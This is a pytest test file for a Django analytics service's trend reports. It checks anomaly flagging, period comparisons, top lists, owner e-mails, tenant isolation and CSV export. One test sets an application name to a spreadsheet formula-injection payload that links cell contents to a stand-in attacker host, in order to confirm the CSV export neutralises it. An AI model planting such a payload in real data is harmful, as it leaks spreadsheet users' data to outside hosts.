"""Trend reports: figures against the period before, top lists, anomalies against a trailing
baseline (an injected error spike is flagged, a steady series is not), CSV, the e-mail to the
tenant's owners once, and tenant isolation of the reports."""

import csv
import io
import random
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.core import mail
from django.core.management import call_command

from analytics import tasks
from analytics.models import CallLog, ReportKind, TrendReport
from analytics.reports import (
    create_trend_report,
    on_demand_period,
    report_csv,
    report_url,
    scheduled_period,
    send_trend_reports,
)
from analytics.services import get_report, reports_for, request_trend_report
from portal.models import Application
from portal.services.errors import InvalidInput, NotFound
from tests.analytics.factories import call, store

pytestmark = pytest.mark.django_db

DAY = datetime(2027, 3, 14, tzinfo=UTC)  # a Sunday: the report's day
NOW = datetime(2027, 3, 15, 0, 20, tzinfo=UTC)  # when beat runs the daily reports
SPIKE = DAY + timedelta(hours=14)
LATENCIES = (20.0, 24.0, 28.0, 32.0, 36.0)


def hourly_traffic(app, api, *, spike_at=None, unpriced_at=None, noise=None):
    """Three days of steady hourly traffic up to the end of DAY: 40 calls an hour, one a 404,
    the first an AI call costing $0.001. At ``spike_at``, 20 calls fail with 502. With
    ``noise`` (a seeded Random), 35 to 45 calls an hour and 0 to 2 of them 404s."""
    rows = []
    version_id = api.versions.get().pk
    hour = DAY - timedelta(days=2)
    while hour < DAY + timedelta(days=1):
        per_hour = 40 + noise.randint(-5, 5) if noise else 40
        errors = 20 if hour == spike_at else (noise.randint(0, 2) if noise else 1)
        for i in range(per_hour):
            failed = i >= per_hour - errors
            status = (502 if hour == spike_at else 404) if failed else 200
            ai = i == 0
            rows.append(
                call(
                    hour + timedelta(minutes=i % 4, seconds=i),
                    latency_ms=LATENCIES[i % len(LATENCIES)],
                    status=status,
                    error_code={502: "upstream_unavailable", 404: "route_not_found"}.get(status, ""),
                    api_id=api.pk,
                    version_id=version_id,
                    tenant_id=app.tenant_id,
                    application_id=app.pk,
                    model="gpt-4o-mini" if ai else "",
                    tokens_in=100 if ai else None,
                    tokens_out=20 if ai else None,
                    cost=None if ai and hour == unpriced_at else ("0.0010" if ai else None),
                )
            )
        hour += timedelta(hours=1)
    return store(rows)


@pytest.fixture
def traffic(api, app, globex_app):
    """Acme's error spike on DAY at 14:00 (and one AI call of unknown cost at 03:00);
    Globex steady, with the usual noise."""
    hourly_traffic(app, api, spike_at=SPIKE, unpriced_at=DAY + timedelta(hours=3))
    hourly_traffic(globex_app, api, noise=random.Random(12))


def scheduled(kind, tenant):
    return TrendReport.objects.get(kind=kind, tenant=tenant, on_demand=False)


def test_a_daily_report_flags_an_injected_error_spike_and_not_a_steady_series(traffic, acme, globex):
    send_trend_reports(ReportKind.DAILY, now=NOW)

    acme_report = scheduled(ReportKind.DAILY, acme)
    assert (acme_report.period_start, acme_report.period_end) == (DAY, DAY + timedelta(days=1))
    (anomaly,) = acme_report.data["anomalies"]
    assert anomaly["hour"] == SPIKE.isoformat() and anomaly["metric"] == "error_rate"
    assert anomaly["direction"] == "up" and anomaly["value"] == 0.5 and anomaly["baseline_median"] == 0.025
    assert anomaly["z"] >= 3.5 and acme_report.anomaly_count == 1

    assert scheduled(ReportKind.DAILY, globex).data["anomalies"] == []
    platform = scheduled(ReportKind.DAILY, None)
    assert [(a["hour"], a["metric"]) for a in platform.data["anomalies"]] == [(SPIKE.isoformat(), "error_rate")]


def test_a_traffic_drop_is_flagged_against_the_trailing_week(api, app, acme):
    hourly_traffic(app, api)
    CallLog.objects.filter(time__gte=DAY + timedelta(hours=9), time__lt=DAY + timedelta(hours=10)).delete()
    report = create_trend_report(ReportKind.DAILY, tenant=acme, now=NOW)
    assert [(a["hour"], a["metric"], a["direction"]) for a in report.data["anomalies"]] == [
        ((DAY + timedelta(hours=9)).isoformat(), "requests", "down")
    ]


def test_figures_compare_with_the_day_before_and_list_top_apis_applications_and_errors(traffic, api, app, acme):
    report = create_trend_report(ReportKind.DAILY, tenant=acme, now=NOW)
    current, previous, changes = report.data["current"], report.data["previous"], report.data["changes"]

    assert current["requests"] == previous["requests"] == 960 and changes["requests"] == 0
    assert (current["errors_4xx"], current["errors_5xx"]) == (23, 20) and previous["errors_4xx"] == 24
    assert current["error_rate"] == pytest.approx(43 / 960)
    assert changes["error_rate_points"] == pytest.approx(round((43 - 24) / 960 * 100, 2))
    assert 36 / 1.1 <= current["p95_ms"] <= 36 * 1.1 and 28 / 1.1 <= current["p50_ms"] <= 28 * 1.1
    assert (current["tokens_in"], current["tokens_out"]) == (2400, 480)
    # 23 priced calls and one whose price is unknown: reported apart, not as $0.
    assert Decimal(current["cost"]) == Decimal("0.023") and current["unpriced_calls"] == 1
    assert Decimal(previous["cost"]) == Decimal("0.024") and changes["cost"] == pytest.approx(-4.17)

    assert [(a["name"], a["requests"], a["errors"]) for a in report.data["top_apis"]] == [(api.name, 960, 43)]
    assert [(a["name"], a["requests"]) for a in report.data["top_applications"]] == [(app.name, 960)]
    assert [(e["status"], e["error_code"], e["api"], e["count"]) for e in report.data["top_errors"]] == [
        (404, "route_not_found", api.name, 23),
        (502, "upstream_unavailable", api.name, 20),
    ]
    assert "top_tenants" not in report.data  # other tenants' names are for the platform report


def test_the_platform_report_counts_every_tenant(traffic, acme, globex):
    report = create_trend_report(ReportKind.DAILY, now=NOW)
    globex_calls = CallLog.objects.filter(tenant_id=globex.pk, time__gte=DAY).count()
    assert report.tenant is None and report.data["current"]["requests"] == 960 + globex_calls
    assert {(t["name"], t["requests"]) for t in report.data["top_tenants"]} == {("Acme", 960), ("Globex", globex_calls)}


def test_the_report_is_mailed_once_to_the_owners_of_that_tenant_only(
    traffic, acme, globex, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        send_trend_reports(ReportKind.DAILY, now=NOW)
    with django_capture_on_commit_callbacks(execute=True):
        send_trend_reports(ReportKind.DAILY, now=NOW + timedelta(hours=1))  # beat again: figures kept fresh

    assert TrendReport.objects.count() == 3  # platform, Acme, Globex: refreshed, not doubled
    by_recipients = {tuple(m.to): m for m in mail.outbox}
    assert sorted(by_recipients) == [("alice@example.com",), ("charlie@example.com",)]
    acme_mail = by_recipients[("alice@example.com",)]
    acme_report = scheduled(ReportKind.DAILY, acme)
    assert "Acme" in acme_mail.subject and "2027-03-14" in acme_mail.subject
    assert report_url(acme_report) in acme_mail.body
    assert "Requests: 960" in acme_mail.body and "Error rate: 4.48 %" in acme_mail.body
    assert "Cost: $0.0230 (+ 1 calls of unknown cost)" in acme_mail.body and "Anomalies: 1" in acme_mail.body
    assert "Globex" not in acme_mail.body
    assert acme_report.emailed_to == 1 and acme_report.emailed_at is not None
    assert scheduled(ReportKind.DAILY, None).emailed_at is None  # the platform's is not mailed


def test_no_mail_when_trend_report_mails_are_off(traffic, settings, django_capture_on_commit_callbacks):
    settings.PORTICO_NOTIFY_TREND_REPORTS = False
    with django_capture_on_commit_callbacks(execute=True):
        reports = send_trend_reports(ReportKind.DAILY, now=NOW)
    assert len(reports) == 3 and mail.outbox == []


def test_reports_for_shows_a_tenant_its_own_reports_only(traffic, acme, globex, alice, bob, vera, charlie, staff):
    send_trend_reports(ReportKind.DAILY, now=NOW)
    acme_report, globex_report = scheduled(ReportKind.DAILY, acme), scheduled(ReportKind.DAILY, globex)

    for member in (alice, bob, vera):
        assert list(reports_for(member, acme)) == [acme_report]
        assert get_report(member, acme_report.pk) == acme_report
        with pytest.raises(NotFound):
            get_report(member, globex_report.pk)
    assert list(reports_for(charlie, globex)) == [globex_report]
    with pytest.raises(NotFound):
        reports_for(charlie, acme)
    with pytest.raises(NotFound):
        get_report(charlie, acme_report.pk)
    with pytest.raises(NotFound):
        reports_for(alice, None)  # the platform's reports are for staff
    with pytest.raises(NotFound):
        get_report(alice, scheduled(ReportKind.DAILY, None).pk)
    for bad_id in ("abc", "", None, 10**30, -1):
        with pytest.raises(NotFound):
            get_report(alice, bad_id)
    assert list(reports_for(staff, None)) == [scheduled(ReportKind.DAILY, None)]
    assert list(reports_for(staff, acme)) == [acme_report]


def test_an_on_demand_report_is_made_for_members_reused_for_five_minutes_and_never_mailed(
    traffic, acme, bob, charlie, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        report = request_trend_report(bob, tenant=acme, kind="weekly")
        again = request_trend_report(bob, tenant=acme, kind="weekly")
    assert again.pk == report.pk and report.on_demand and report.requested_by == bob
    assert report.emailed_at is None and mail.outbox == []
    assert report.period_end - report.period_start == timedelta(days=7)
    with pytest.raises(NotFound):
        request_trend_report(charlie, tenant=acme, kind="daily")
    with pytest.raises(NotFound):
        request_trend_report(bob, tenant=None, kind="daily")
    with pytest.raises(InvalidInput):
        request_trend_report(bob, tenant=acme, kind="hourly")


def test_report_csv_holds_figures_and_top_lists_and_defuses_formulas(traffic, app, acme):
    app.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    app.save()
    report = create_trend_report(ReportKind.DAILY, tenant=acme, now=NOW)
    rows = list(csv.reader(io.StringIO(report_csv(report).decode("utf-8"))))

    assert rows[0][:3] == ["report", "scope", "kind"] and rows[1][1:3] == ["Acme", "daily"]
    figures = {row[0]: row[1:4] for row in rows[3:17]}
    assert figures["requests"] == ["960", "960", "0.0"] and figures["cost"][:2] == ["0.023", "0.024"]
    assert ["top_applications", "id", "requests", "errors", "error_rate", "p95_ms", "tokens", "cost"] in rows
    applications = rows.index(
        ["top_applications", "id", "requests", "errors", "error_rate", "p95_ms", "tokens", "cost"]
    )
    assert rows[applications + 1][:3] == ["'" + app.name, str(app.pk), "960"]  # shown as text, never run
    assert any(row[:3] == ["", SPIKE.isoformat(), "error_rate"] for row in rows)
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_periods_are_the_utc_day_or_iso_week_just_ended():
    assert scheduled_period("daily", NOW).start == DAY
    weekly = scheduled_period("weekly", datetime(2027, 3, 17, 9, 30, tzinfo=UTC))  # a Wednesday
    assert (weekly.start, weekly.end) == (datetime(2027, 3, 8, tzinfo=UTC), datetime(2027, 3, 15, tzinfo=UTC))
    assert weekly.previous.start == datetime(2027, 3, 1, tzinfo=UTC)
    demand = on_demand_period("daily", datetime(2027, 3, 17, 9, 30, tzinfo=UTC))
    assert (demand.start, demand.end) == (datetime(2027, 3, 16, 9, tzinfo=UTC), datetime(2027, 3, 17, 9, tzinfo=UTC))


def test_the_celery_tasks_and_commands_make_reports(settings, acme, app, api):
    this_hour = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    yesterday_noon = this_hour.replace(hour=12) - timedelta(days=1)
    store(
        [call(at, tenant_id=acme.pk, application_id=app.pk) for at in (yesterday_noon, this_hour - timedelta(hours=2))]
    )
    assert {"analytics.send_trend_reports"} <= {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert tasks.send_trend_reports.apply(kwargs={"kind": "daily"}).get() == 2  # the platform and Acme
    assert TrendReport.objects.get(tenant=acme, kind="daily").data["current"]["requests"] == 1
    pk = tasks.create_trend_report.apply(kwargs={"kind": "weekly", "tenant_id": acme.pk}).get()
    assert TrendReport.objects.get(pk=pk).data["current"]["requests"] == 2
    out = io.StringIO()
    call_command("create_trend_report", "--tenant", "acme", "--kind", "weekly", stdout=out)
    assert "2 requests, 0 anomalies" in out.getvalue()
    call_command("send_trend_reports", "--kind", "daily", stdout=out)
    assert "daily trend reports stored" in out.getvalue()
    with pytest.raises(Exception, match="No tenant"):
        call_command("create_trend_report", "--tenant", "nope")
    assert Application.objects.count() == 1
